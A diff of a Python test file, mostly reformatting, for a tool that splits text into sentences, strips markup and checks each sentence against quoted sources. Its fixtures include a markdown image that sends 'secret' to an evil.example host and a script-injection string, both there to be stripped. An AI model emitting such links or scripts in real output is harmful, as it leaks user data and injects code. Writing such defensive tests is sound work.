@@ -36,10 +36,11 @@ def texts(*deltas: str) -> list[str]:
         ("U.S. troops left, e.g. by ship. It took 3.5 days.", ["U.S. troops left, e.g. by ship.", "It took 3.5 days."]),
         ("“Why now?” Jan Lipavský asked. Nobody knew.", ["“Why now?” Jan Lipavský asked.", "Nobody knew."]),
         ('He said "No." They left.', ['He said "No."', "They left."]),
-        ("Points:\n- The first one\n- The second one.\n1. A third.", ["Points:", "The first one", "The second one.", "A third."]),
+        ("Points:\n- The first one\n- The second one.\n1. A third.", 
+         ["Points:", "The first one", "The second one.", "A third."]),
         ("# Summary\n\n**Key facts**\n\nNATO met.", ["NATO met."]),
         ("It cost $5.2 billion. 21 councillors agreed.", ["It cost $5.2 billion.", "21 councillors agreed."]),
-        ("The **bold** and _slanted_ `code` stay; snake_case too.", ["The bold and slanted code stay; snake_case too."]),
+        ("The **bold** _slanted_ `code` stays; snake_case too.", ["The bold slanted code stays; snake_case too."]),
         ("See [the page](https://evil.example/a_(b)?q=1) now.", ["See the page now."]),
         ("Look ![x](https://evil.example/leak?q=secret) here.", ["Look here."]),
         ("A <b>bold</b> word.<!-- hidden --> More <script>alert(1)</script>text.", ["A bold word.", "More text."]),
@@ -85,8 +86,10 @@ def test_a_sentence_comes_out_as_soon_as_the_next_one_begins() -> None:
 
 
 MARKUP = st.sampled_from(
-    ["NATO met in Prague", ". ", "[1]", "[", "]", "1", ", ", "2", "It ended", "\n", "- ", "**", "_", "“", "”", '"', "<!--",
-     "-->", "<b>", "</b>", "<", ">", "![", "](", "http://x.y", ")", "(", "# ", "【", "】", "U.S. ", "3.5", "Smith said", "!", "? "]
+    ["NATO met in Prague", ". ", "[1]", "[", "]", "1", ", ", "2", "It ended", "\n", "- ", "**", "_", "“", "”", '"',
+     "<!--",
+     "-->", "<b>", "</b>", "<", ">", "![", "](", "http://x.y", ")", "(", "# ", "【", "】", "U.S. ", "3.5", "Smith said",
+     "!", "? "]
 )  # fmt: skip
 
 
@@ -114,7 +117,8 @@ def test_no_mark_image_or_element_is_left(parts: list[str]) -> None:
 @pytest.mark.parametrize(
     "one, other",
     [
-        ("1,500 men", "fifteen hundred men"), ("1500", "one thousand five hundred"), ("$5 billion", "5 billion dollars"),
+        ("1,500 men", "fifteen hundred men"), ("1500", "one thousand five hundred"),
+        ("$5 billion", "5 billion dollars"),
         ("£3.2m", "3.2 million pounds"), ("4.9%", "4.9 per cent"), ("23 workers", "Twenty-three workers"),
         ("9th goal", "ninth goal"), ("twice", "two times"), ("a pair of successors", "two successors"),
     ],
@@ -125,7 +129,8 @@ def test_the_same_value_is_known_however_it_is_written(one: str, other: str) -> 
 
 
 @pytest.mark.parametrize(
-    "one, other", [("$5 billion", "5 million dollars"), ("5 euros", "5 dollars"), ("57 seconds", "57 minutes"), ("3", "3.5")]
+    "one, other",
+    [("$5 billion", "5 million dollars"), ("5 euros", "5 dollars"), ("57 seconds", "57 minutes"), ("3", "3.5")],
 )
 def test_another_value_or_unit_is_another_quantity(one: str, other: str) -> None:
     assert not quantities(one)[0].agrees(quantities(other)[0])
@@ -143,7 +148,9 @@ def test_another_date_does_not(date: str) -> None:
 
 # What speaks against a sentence
 
-OPENED = "The meeting in Prague was opened by NATO Secretary General Jens Stoltenberg on 30 May, who presented 40 proposals."
+OPENED = (
+    "The meeting in Prague was opened by NATO Secretary General Jens Stoltenberg on 30 May, who presented 40 proposals."
+)
 SAID = "“NATO’s doors must remain open to new members,” said Foreign Minister Jan Lipavský."
 
 
@@ -210,7 +217,10 @@ def test_the_articles_own_sentence_is_verbatim() -> None:
 
 @pytest.mark.parametrize(
     "sentence",
-    ["The meeting in Prague was opened by Jens Stoltenberg.", "Jens Stoltenberg presented 40 proposals at the Prague meeting."],
+    [
+        "The meeting in Prague was opened by Jens Stoltenberg.",
+        "Jens Stoltenberg presented 40 proposals at the Prague meeting.",
+    ],
 )
 def test_a_shorter_sentence_is_supported(sentence: str) -> None:
     aligned = align(sentence, [quote(SAID), quote(OPENED, 100)], [0.2, 0.8])
@@ -227,7 +237,10 @@ def test_what_one_sentence_does_not_cover_is_cited_from_two() -> None:
 def test_a_hint_decides_between_equals_only() -> None:
     twice = [quote(OPENED), quote(OPENED, 200)]
     assert align(OPENED, twice, [1.0, 1.0], hinted=[1]).quotes == (twice[1],)
-    assert align("Jens Stoltenberg opened it.", [quote(SAID), quote(OPENED, 100)], [0.2, 0.7], hinted=[0]).quotes[0].start == 100
+    assert (
+        align("Jens Stoltenberg opened it.", [quote(SAID), quote(OPENED, 100)], [0.2, 0.7], hinted=[0]).quotes[0].start
+        == 100
+    )
 
 
 def test_without_evidence_nothing_is_supported() -> None:
@@ -237,7 +250,11 @@ def test_without_evidence_nothing_is_supported() -> None:
 SENTENCES = [article.text[start:end] for article in ARTICLES for start, end in sentence_spans(article.text)]
 
 
-@given(at=st.integers(0, len(SENTENCES) - 1), value=st.integers(3, 10**7), tail=st.sampled_from(["", " per cent", " tanks"]))
+@given(
+    at=st.integers(0, len(SENTENCES) - 1),
+    value=st.integers(3, 10**7),
+    tail=st.sampled_from(["", " per cent", " tanks"]),
+)
 @settings(max_examples=60, deadline=None)
 def test_a_sentence_whose_number_is_in_no_quote_is_never_supported(at: int, value: int, tail: str) -> None:
     lie = f"{SENTENCES[at].rstrip('.”')} with {value:,}{tail}."
